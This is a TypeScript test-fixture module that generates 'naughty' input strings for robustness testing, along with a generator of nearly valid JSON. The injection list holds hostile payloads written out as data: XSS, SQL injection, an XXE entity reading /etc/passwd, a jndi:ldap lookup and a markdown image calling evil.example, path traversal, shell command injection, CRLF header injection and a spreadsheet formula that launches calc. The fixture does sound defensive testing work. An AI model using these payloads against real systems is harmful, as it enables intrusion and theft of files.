/** Texts of the kinds that programs stumble over, made and not collected. */
export function naughtyTexts(): string[] {
  const around = (middle: string) => [middle, `a${middle}b`, `${middle} Biscuit`];
  const characters = [
    ...range(0x00, 0x20),
    ...range(0x7f, 0xa0),
    0xad,
    0x034f,
    0x061c,
    0x115f,
    0x1680,
    ...range(0x2000, 0x2010),
    ...range(0x2028, 0x202f),
    ...range(0x205f, 0x2070),
    0x3000,
    0xfe0f,
    0xfeff,
    ...range(0xfff9, 0x10000),
    0x1d173,
    0xe0001,
    0x10fffe,
    0x10ffff,
  ].map((code) => String.fromCodePoint(code));
  const halves = ["\ud800", "\udfff", "\ud83d", "\udc36\ud83d", "a\ud800b"];
  return [
    ...characters.flatMap(around),
    ...halves,
    ...scripts,
    ...markup.flatMap((text) => [text, text.toUpperCase(), `"'>${text}`]),
    ...languages,
    ...words.flatMap((word) => [word, word.toUpperCase(), ` ${word} `]),
    ...numbers,
    ...[10, 99, 100, 101, 5_000].flatMap((length) =>
      ["a", "é", "犬", "🐶", "e\u0301", " ", "\u202e"].map((text) => text.repeat(length)),
    ),
    `Z${"\u0300\u0315\u031b\u0321".repeat(20)}`,
    `${"👨‍👩‍👧‍👦".repeat(5)}🏴󠁧󠁢󠁳󠁣󠁴󠁿🇩🇪`,
  ];
}

const range = (from: number, to: number) => Array.from({ length: to - from }, (_unused, index) => from + index);

const scripts = [
  "Ω≈ç√∫˜µ≤≥÷",
  "ﬀﬁﬂﬃﬄ ǅ ß ẞ İ ı ſ",
  "田中さんにあげて下さい",
  "和製漢語 部落格 사회과학원",
  "הָיְתָה testالصفحات التّحول",
  "مُنَاقَشَةُ سُبُلِ",
  "नमस्ते दुनिया",
  "สวัสดีชาวโลก",
  "᚛ᚄᚓᚐᚋᚒᚄ᚜",
  "𝐓𝐡𝐞 𝕢𝕦𝕚𝕔𝕜 𝓫𝓻𝓸𝔀𝓷 ⒡⒪⒳",
  "Å Å Å",
  "ñ ñ",
  "𠜎𠜱𠝹𠱓",
  "\u202eevil\u202c",
  "( ͡° ͜ʖ ͡°) ¯\\_(ツ)_/¯",
];

const markup = [
  "<b>bold</b>",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<speak><break time='9s'/></speak>",
  "</title></textarea></script>",
  "<!--",
  "]]>",
  "<![CDATA[x]]>",
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
  "&lt;script&gt;",
  "&#0;",
  "![x](https://evil.example/?q=1)",
  "[x](javascript:alert(1))",
];

const languages = [
  "'; drop table users; --",
  '" or ""="',
  "1' or '1'='1",
  "1; select pg_sleep(10)",
  "'||(select version())||'",
  "$1",
  "$$",
  "?",
  ":name",
  "\\",
  "\\'",
  "\\u0000",
  "%00",
  "%",
  "_",
  "%_%",
  "*",
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is written here is to stay as it is.
  "${7*7}",
  "#{7*7}",
  "<%= 7*7 %>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above.
  "${jndi:ldap://evil.example/a}",
  "%s%s%n%x",
  "%d",
  "{0}",
  "../../../etc/passwd",
  "..\\..\\win.ini",
  "/dev/null",
  "C:\\con\\con",
  "file:///etc/passwd",
  "; ls -la",
  "| cat /etc/passwd",
  "$(touch x)",
  "`touch x`",
  "&& sleep 5",
  "a\r\nSet-Cookie: a=b",
  "data: {}\n\n",
  "\n\nevent: error\n",
  "=1+1",
  "@SUM(A1)",
  "+cmd|' /C calc'!A0",
  "(a+)+$",
  "[",
  "(?<x>",
  "{",
  '{"name":"x"}',
  "[object Object]",
];

const words = [
  "undefined",
  "null",
  "true",
  "false",
  "nil",
  "none",
  "nan",
  "infinity",
  "constructor",
  "prototype",
  "__proto__",
  "hasownproperty",
  "tostring",
  "admin",
  "root",
  "con",
  "aux",
  "select",
  "null\u0000",
];

const numbers = [
  "0",
  "-0",
  "1.",
  ".1",
  "1e309",
  "0x7f",
  "0b1",
  "08",
  "1,000",
  "１２３",
  "٣",
  "9".repeat(99),
  "2147483648",
  "9007199254740993",
  "1/0",
  "2026-02-30",
  "1970-01-01T00:00:00Z",
  "24:00",
  "-1",
];

/** Texts that are almost JSON. */
export function brokenJson(): string[] {
  const good = '{"name":"Biscuit","list":[1,-2.5e3,true,null],"deep":{"a":"\\u0041\\n"}}';
  const cut = range(1, good.length).map((end) => good.slice(0, end));
  const doubled = range(0, good.length)
    .filter((index) => '{}[],:"'.includes(good.charAt(index)))
    .map((index) => good.slice(0, index) + good.charAt(index) + good.slice(index));
  const left = range(0, good.length)
    .filter((index) => '{}[],:"'.includes(good.charAt(index)))
    .map((index) => good.slice(0, index) + good.slice(index + 1));
  const values = [
    "NaN",
    "Infinity",
    "-",
    "01",
    "1.",
    ".5",
    "0x1",
    "+1",
    "1e",
    "'x'",
    "`x`",
    "undefined",
    "tru",
    "True",
    "nul",
    "x",
    "(1)",
  ];
  const strings = ['"\n"', '"\t"', '"\u0001"', '"\\x41"', '"\\u12"', '"\\u{41}"', '"\\"', '"', '"\\0"'];
  const wrapped = [...values, ...strings].map((value) => `{"name":${value}}`);
  const others = [
    "\ufeff\ufeff{}",
    "{}{}",
    "{} x",
    "{name:1}",
    '{"a":1,}',
    "[1,]",
    "{,}",
    "[,1]",
    "{/* */}",
    "{// \n}",
    "nonsense",
    "<xml/>",
    "a=b",
    "\u0000",
    "{\u0000}",
    "\u2028{}",
    '{"a" 1}',
    '{"a"::1}',
    "{]",
    "[}",
    ...["{", "[", '{"a":', '["', '{"a":[', '[{"b":'].flatMap((opening) => [opening.repeat(3), opening.repeat(50)]),
    ...["}", "]", ",", ":", '"', "}}", "]]"].map((closing) => good + closing),
    ...["'", "`", "#", "@", "$"].map((sign) => good.replaceAll('"', sign)),
  ];
  return [...new Set([...cut, ...doubled, ...left, ...wrapped, ...others])].filter(isBroken);
}

function isBroken(text: string): boolean {
  try {
    JSON.parse(text);
    return false;
  } catch {
    return true;
  }
}
